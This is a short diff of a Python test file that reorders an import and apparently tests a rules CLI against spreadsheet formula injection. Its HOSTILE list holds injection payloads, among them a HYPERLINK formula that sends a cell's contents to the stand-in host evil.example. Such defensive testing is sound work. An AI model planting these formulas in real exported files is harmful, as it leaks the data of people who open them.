@@ -13,7 +13,7 @@ import pytest
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 
-from test_rules_cli import D, NOW, agent, item, load, policy, run_raw, ts  # noqa: E402
+from test_rules_cli import NOW, D, agent, item, load, policy, run_raw, ts
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"y")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd"]
